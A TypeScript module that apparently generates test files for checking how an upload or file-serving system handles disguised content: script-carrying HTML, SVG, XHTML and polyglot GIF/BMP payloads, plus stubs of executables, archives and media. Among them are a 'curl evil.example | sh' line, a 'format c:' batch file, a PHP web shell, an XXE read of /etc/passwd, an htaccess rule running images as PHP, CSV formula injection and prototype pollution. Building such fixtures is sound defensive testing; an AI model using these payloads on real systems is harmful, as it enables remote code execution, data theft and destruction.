import { gzipSync } from 'node:zlib'

/** The address that a payload requests when it runs; a request for it is the proof. */
export const CALL = '/ran-in-our-origin'

/** The actions of a payload: it requests an address, opens a dialog and changes the title. */
export const SCRIPT = `try{document.title='ran'}catch(e){};try{fetch('${CALL}')}catch(e){};try{importScripts('${CALL}')}catch(e){};try{alert(1)}catch(e){}`

const text = (words: string) => () => Buffer.from(words)
const bytes =
  (hex: string, more = 400) =>
  () =>
    Buffer.concat([Buffer.from(hex.replaceAll(' ', ''), 'hex'), Buffer.alloc(more)])

export type Payload = {
  what: string
  /** Its extension when it is not disguised. */
  extension: string
  make: () => Buffer
}

const html = `<!doctype html><html><head><script>${SCRIPT}</script></head><body onload="${SCRIPT.replaceAll('"', "'")}">x</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`

const of = (what: string, extension: string, make: () => Buffer): Payload => ({ what, extension, make })

/** Payloads that run in a browser that recognises their real type. */
export const SCRIPTED: readonly Payload[] = [
  of('a page', 'html', text(html)),
  of('a page after white space', 'htm', text(`\n\n\t ${html}`)),
  of('a page with a byte order mark', 'html', text(`\ufeff${html}`)),
  of('a page in UTF-16', 'html', () => Buffer.from(`\ufeff${html}`, 'utf16le')),
  of('a page in UTF-7', 'html', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
  of('a page after a comment', 'html', text(`<!-- ${'-'.repeat(2000)} -->${html}`)),
  of('a drawing with script', 'svg', text(svg)),
  of('a drawing with a declaration', 'svg', text(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b">${svg}`)),
  of(
    'a drawing with an entity',
    'svg',
    text(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
    ),
  ),
  of('a compressed drawing', 'svgz', () => gzipSync(svg)),
  of(
    'an XHTML page',
    'xhtml',
    text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT}</script></html>`),
  ),
  of(
    'an XML document with a style sheet',
    'xml',
    text(
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${SCRIPT}</h:script></x>`,
    ),
  ),
  of('a script', 'js', text(SCRIPT)),
  of('a module', 'mjs', text(`export default 1;${SCRIPT}`)),
  of(
    'a saved page',
    'mhtml',
    text(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--`,
    ),
  ),
  of('an email', 'eml', text(`From: a@b.test\r\nContent-Type: text/html\r\n\r\n${html}`)),
  of('an HTML application', 'hta', text(`<HTA:APPLICATION/>${html}`)),
  of('a shortcut', 'url', text(`[InternetShortcut]\r\nURL=javascript:${SCRIPT}`)),
]

/** Programs, archives, media and other documents. */
export const OTHER_TYPES: readonly Payload[] = [
  of('a Windows program', 'exe', bytes('4d5a9000 03000000 04000000 ffff0000')),
  of('a Linux program', 'elf', bytes('7f454c46 02010100 00000000 00000000')),
  of('a macOS program', 'bin', bytes('cffaedfe 07000001 03000000')),
  of('a Java class', 'class', bytes('cafebabe 00000034')),
  of('a WebAssembly module', 'wasm', bytes('0061736d 01000000')),
  of('a shell script', 'sh', text('#!/bin/sh\ncurl evil.example | sh\n')),
  of('a batch file', 'bat', text('@echo off\r\nformat c:\r\n')),
  of('a PHP page', 'php', text('<?php system($_GET["c"]); ?>')),
  of('a JSP page', 'jsp', text('<% Runtime.getRuntime().exec("id"); %>')),
  of('an ASP page', 'aspx', text('<%@ Page Language="C#" %>')),
  of('web server settings', 'htaccess', text('AddType application/x-httpd-php .jpg')),
  of('an archive', 'zip', bytes('504b0304 14000000 0000')),
  of('an empty archive', 'zip', bytes('504b0506', 18)),
  of('a RAR archive', 'rar', bytes('526172211a0700')),
  of('a 7z archive', '7z', bytes('377abcaf271c0004')),
  of('a GZIP archive', 'gz', () => gzipSync('x'.repeat(10_000))),
  of('a TAR archive', 'tar', () =>
    Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\x0000'), Buffer.alloc(800)]),
  ),
  of('a disk image', 'iso', () =>
    Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001'), Buffer.alloc(200)]),
  ),
  of('a GIF', 'gif', () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')),
  of('a GIF that is a script', 'gif', text(`GIF89a=1;${SCRIPT}`)),
  of('a bitmap that is a script', 'bmp', text(`BM=1;${SCRIPT}`)),
  of('a TIFF', 'tif', bytes('49492a00 08000000')),
  of('an icon', 'ico', bytes('00000100 0100 1010')),
  of('an AVIF', 'avif', bytes('0000001c 66747970 61766966 00000000 61766966')),
  of('a HEIC', 'heic', bytes('00000018 66747970 68656963 00000000 68656963')),
  of('a Photoshop file', 'psd', bytes('38425053 0001')),
  of('an EPS', 'eps', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file')),
  of('a PostScript file', 'ps', text('%!PS\n(x) show')),
  of('a video', 'mp4', bytes('00000018 66747970 6d703432 00000000 6d703432')),
  of('a WMV', 'wmv', bytes('3026b2758e66cf11a6d900aa0062ce6c')),
  of('a Flash movie', 'swf', bytes('435753 0a')),
  of('an audio file', 'mp3', bytes('494433 0300')),
  of('an RTF document', 'rtf', text('{\\rtf1\\ansi{\\object\\objocx}}')),
  of('a table', 'csv', text('=cmd|calc!A1,2\n')),
  of('a JSON file', 'json', text('{"__proto__":{"a":1}}')),
  of('a font', 'woff', bytes('774f4646 00010000')),
  of('a database', 'sqlite', bytes('53514c69746520666f726d6174203300')),
  of('a key', 'pem', text('-----BEGIN PRIVATE KEY-----\nAAAA\n')),
]
